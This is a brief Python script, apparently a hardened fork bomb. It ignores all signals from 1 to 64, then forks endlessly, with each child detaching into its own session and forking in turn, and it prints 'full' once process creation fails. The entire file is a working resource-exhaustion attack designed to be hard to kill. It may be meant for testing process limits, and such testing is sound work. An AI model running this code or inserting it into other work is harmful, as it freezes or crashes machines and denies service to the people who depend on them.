# Forks for ever, each child deaf to signals and in a session of its own.
import os
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
said = False
while True:
    try:
        if os.fork() == 0:
            os.setsid()
            said = True
    except OSError:
        if not said:
            print("full", flush=True)
            said = True
